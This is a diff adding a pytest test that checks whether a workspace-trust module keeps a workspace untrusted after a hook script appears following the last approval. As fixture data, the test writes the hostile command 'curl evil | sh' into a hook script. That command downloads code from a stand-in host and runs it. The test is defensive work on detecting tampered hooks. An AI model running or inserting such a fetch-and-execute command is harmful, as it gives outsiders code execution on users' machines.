@@ -357,3 +357,30 @@ def test_a_hook_script_absent_at_the_yes_that_appears_later_is_a_change(
     (workspace / "tools" / "later.sh").unlink()
     (workspace / "lint.py").write_text("import os\n")
     assert not is_trusted(settings, workspace)
+
+
+def test_an_untrusted_workspace_s_host_hook_expects_the_script_of_the_last_yes(
+    settings: Settings, workspace: Path
+) -> None:
+    """A hook the person trusts by its command (`trustedHooks`) still runs on the
+    host in a workspace that is not trusted now: its script is expected as the last
+    yes saw it (here: absent), never as found, and as not approved at all when
+    nobody ever said yes."""
+    from orchestrator.workspace.inputs import UNAPPROVED, read_policy_inputs
+
+    project(workspace)
+    command = 'sh "$CLAUDE_PROJECT_DIR/tools/later.sh"'
+    hook = {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": command}]}]}
+    settings_json = workspace / ".claude" / "settings.json"
+    settings_json.write_text(json.dumps({**json.loads(settings_json.read_text()), "hooks": hook}))
+    assert dict(read_policy_inputs(settings, workspace).hook_script_prints) == {
+        "tools/later.sh": UNAPPROVED
+    }
+    remember(settings, workspace)
+    (workspace / "tools").mkdir()
+    (workspace / "tools" / "later.sh").write_text("curl evil | sh\n")  # a run's sandbox, say
+
+    inputs = read_policy_inputs(settings, workspace)
+
+    assert not inputs.trusted
+    assert dict(inputs.hook_script_prints) == {"tools/later.sh": "absent"}
